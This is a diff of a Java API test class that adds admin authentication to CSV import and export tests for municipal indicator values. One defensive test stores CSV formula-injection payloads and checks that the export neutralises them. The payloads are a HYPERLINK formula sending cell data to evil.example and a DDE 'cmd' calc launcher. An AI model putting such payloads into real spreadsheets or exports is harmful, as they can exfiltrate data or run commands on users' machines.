@@ -87,14 +87,14 @@ class CsvTest extends ApiTest {
         assertEquals("5550", rows.get(edited).get(value));
 
         rows.get(edited).set(value, "5600");
-        given().contentType("text/csv; charset=UTF-8").body(write(rows)).post("/api/v1/indicators/values")
+        admin().contentType("text/csv; charset=UTF-8").body(write(rows)).post("/api/v1/indicators/values")
                 .then().statusCode(200)
                 .body("created", equalTo(0)).body("updated", equalTo(1)).body("unchanged", equalTo(127));
         List<List<String>> after = rows(csv("/api/v1/indicators/values?municipality=131067"));
         assertEquals(rows, after, "exactly the edited cell changed");
 
         // Restore from the untouched export, BOM and all.
-        given().contentType("text/csv; charset=UTF-8").body(exported).post("/api/v1/indicators/values")
+        admin().contentType("text/csv; charset=UTF-8").body(exported).post("/api/v1/indicators/values")
                 .then().statusCode(200).body("updated", equalTo(1)).body("unchanged", equalTo(127));
         assertEquals(exported, csv("/api/v1/indicators/values?municipality=131067"));
     }
@@ -107,14 +107,14 @@ class CsvTest extends ApiTest {
         rows.get(3).set(header.indexOf("fiscalYear"), "令和0年度");
         rows.get(5).set(header.indexOf("value"), "たくさん");
         rows.get(6).set(header.indexOf("value"), "7");
-        invalid().contentType("text/csv").body(write(rows)).post("/api/v1/indicators/values")
+        invalid(admin()).contentType("text/csv").body(write(rows)).post("/api/v1/indicators/values")
                 .then().statusCode(400).contentType("application/problem+json")
                 .body("errors.field", hasItems("row 4, column fiscalYear", "row 6, column value"));
         assertEquals(before, csv("/api/v1/indicators/values?municipality=131067"), "nothing stored");
 
-        invalid().contentType("text/csv").body("indicatorId,fiscalYear\n").post("/api/v1/indicators/values")
+        invalid(admin()).contentType("text/csv").body("indicatorId,fiscalYear\n").post("/api/v1/indicators/values")
                 .then().statusCode(400).body("errors[0].field", equalTo("row 1"));
-        invalid().contentType(ContentType.JSON).body(Map.of("value", 1)).post("/api/v1/indicators/values")
+        invalid(admin()).contentType(ContentType.JSON).body(Map.of("value", 1)).post("/api/v1/indicators/values")
                 .then().statusCode(415).contentType("application/problem+json");
     }
 
@@ -123,7 +123,7 @@ class CsvTest extends ApiTest {
         String hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
         Map<String, Object> planBody = jp.industryplans.TestPlans.planBody("csv-formula-" + System.nanoTime());
         planBody.put("title", hyperlink);
-        String plan = json().body(planBody).post("/api/v1/plans").then().statusCode(201).extract().path("id");
+        String plan = json(admin()).body(planBody).post("/api/v1/plans").then().statusCode(201).extract().path("id");
         try {
             formulasRoundTrip(plan, hyperlink);
         } finally {
@@ -135,7 +135,7 @@ class CsvTest extends ApiTest {
         String indicator = jp.industryplans.TestPlans.createIndicator(plan, null, "formula");
         Map<String, String> texts = Map.of("2021", "+1+cmd|' /C calc'!A0", "2022", "-5件", "2023", "@SUM(A1:A9)",
                 "2024", "\tTAB", "2025", "'already quoted");
-        texts.forEach((year, text) -> json().header("If-None-Match", "*")
+        texts.forEach((year, text) -> json(admin()).header("If-None-Match", "*")
                 .body(Map.of("value", -5, "text", text, "note", text)).put("/api/v1/indicators/" + indicator + "/values/"
                         + year + "/ACTUAL").then().statusCode(201));
 
@@ -152,7 +152,7 @@ class CsvTest extends ApiTest {
             assertTrue(row.get(text).startsWith("'"), "neutralised: " + row.get(text));
         }
         // Uploaded again as exported: nothing changes, and no apostrophe is stored.
-        given().contentType("text/csv; charset=UTF-8").body(exported).post("/api/v1/indicators/values")
+        admin().contentType("text/csv; charset=UTF-8").body(exported).post("/api/v1/indicators/values")
                 .then().statusCode(200).body("updated", equalTo(0)).body("unchanged", equalTo(5));
         texts.forEach((year, t) -> json().get("/api/v1/indicators/" + indicator + "/values/" + year + "/ACTUAL")
                 .then().body("text", equalTo(t)).body("note", equalTo(t)));
@@ -165,7 +165,7 @@ class CsvTest extends ApiTest {
         for (int i = 0; i < 50_000; i++) {
             csv.append(id).append(",令和0年度,TARGET,1,,,\n");
         }
-        String body = invalid().contentType("text/csv").body(csv.toString()).post("/api/v1/indicators/values")
+        String body = invalid(admin()).contentType("text/csv").body(csv.toString()).post("/api/v1/indicators/values")
                 .then().statusCode(400).contentType("application/problem+json")
                 .body("detail", equalTo("50000 fields are invalid; the first 100 are listed."))
                 .body("errors.size()", equalTo(100))
